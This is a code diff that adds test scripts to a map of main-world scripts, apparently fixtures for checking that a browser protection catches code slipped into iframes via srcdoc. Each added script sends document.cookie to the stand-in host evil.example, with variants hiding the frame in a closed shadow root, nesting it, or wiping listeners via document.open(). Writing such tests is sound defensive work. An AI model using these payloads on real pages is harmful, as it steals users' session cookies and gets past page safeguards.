@@ -1423,6 +1423,38 @@ export const MAIN_WORLD_SCRIPTS = {
   frame.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-in-page?c=" + encodeURIComponent(document.cookie))<\\/script>';
 })();`,
 
+  /** The same, the frame in a closed shadow root (made by markup): its frame element is out of the document's reach. */
+  'srcdoc-given-in-shadow': `(() => {
+  const host = document.createElement('div');
+  document.body.appendChild(host);
+  const root = host.attachShadow({ mode: 'closed' });
+  root.innerHTML = '<iframe style="display:none"></iframe>';
+  root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-in-shadow?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
+  /** The same one frame down: a frame inside a same-origin frame given its srcdoc once both are in place. */
+  'srcdoc-given-nested': `(() => {
+  const outer = document.createElement('iframe');
+  outer.style.display = 'none';
+  document.body.appendChild(outer);
+  const doc = window[window.length - 1].document;
+  const inner = doc.createElement('iframe');
+  doc.body.appendChild(inner);
+  inner.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-nested?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
+  /** The same after document.open() on the outer frame's document, which erases the listeners of its window too. */
+  'srcdoc-given-reopened': `(() => {
+  const outer = document.createElement('iframe');
+  outer.style.display = 'none';
+  document.body.appendChild(outer);
+  const doc = window[window.length - 1].document;
+  doc.open();
+  doc.write('<iframe></iframe>');
+  doc.close();
+  doc.querySelector('iframe').srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-reopened?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
   /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
   'pristine-srcdoc-parsed-frame': `(() => {
   const frame = document.createElement('iframe');
